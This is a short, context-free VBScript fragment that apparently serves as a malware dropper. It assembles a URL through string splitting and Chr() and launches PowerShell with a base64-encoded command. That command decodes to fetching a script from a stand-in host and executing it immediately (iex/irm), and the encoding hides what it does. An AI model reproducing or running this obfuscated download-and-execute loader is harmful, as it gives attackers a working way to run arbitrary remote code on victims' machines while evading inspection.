Dim u
u = "ht" & "tps://vb" & Chr(115) & ".test/a"
CreateObject("WScript.Shell").Run "powershell -enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoALwAvAHAAcwAuAHQAZQBzAHQALwBiACkA"
